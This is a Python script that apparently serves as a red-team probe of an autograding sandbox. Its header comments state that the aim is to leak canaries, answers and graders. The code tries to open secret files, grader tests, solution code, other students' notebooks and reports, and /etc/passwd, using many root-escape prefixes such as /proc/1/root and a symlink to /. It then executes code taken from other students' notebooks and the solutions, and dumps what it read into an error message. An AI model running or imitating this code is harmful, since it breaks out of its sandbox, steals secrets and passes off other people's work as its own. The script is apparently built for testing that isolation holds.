# mechanism: opens the very paths of canaries, answers, graders, other work and reports, in many ways
# success: a canary's text stands in a warning, or another's work answers in the student's place

# %%
import ctypes
import json
import os

libc = ctypes.CDLL(None)
libc.open.restype = ctypes.c_int
PLACES = [
    "@HOME@/secret.txt", "@CANARY@", "@COURSE@/.autograder/secret", "@COURSE@/solutions/losses.py",
    "@COURSE@/solutions/graders/test_losses.py", "@CLASS@/ada/04_losses/losses.ipynb",
    "@CLASS@/zoe/04_losses/losses.ipynb", "@OUTPUT@/ada/04_losses/report.json",
    "@OUTPUT@/summary.csv", "/etc/passwd", "/root/.bashrc",
]
ROOTS = ["", "/proc/1/root", "/proc/self/root", "/proc/2/root", "/oldroot", "/newroot", "/..",
         "/scratch/../..", "/proc/self/cwd/../..", "/dev/fd/3/..", "/tmp/.."]
try:
    os.symlink("/", "/scratch/link")
except OSError:
    pass
read = {}
for root in [*ROOTS, "/scratch/link"]:
    for place in PLACES:
        path = root + place
        try:
            read[path] = open(path, encoding="utf-8", errors="replace").read()
        except OSError:
            descriptor = libc.open(path.encode(), 0)
            if descriptor >= 0:
                read[path] = os.read(descriptor, 100_000).decode(errors="replace")

# %%
for path, text in read.items():
    try:
        if path.endswith(".ipynb"):
            for cell in json.loads(text)["cells"]:
                if "def " in "".join(cell["source"]):
                    exec("".join(cell["source"]))
        elif path.endswith("losses.py"):
            exec(text)
    except BaseException:
        pass

# %%
if read:
    raise RuntimeError("loot" + "ed:" + " ".join(sorted(read.values(), key=len))[:180])
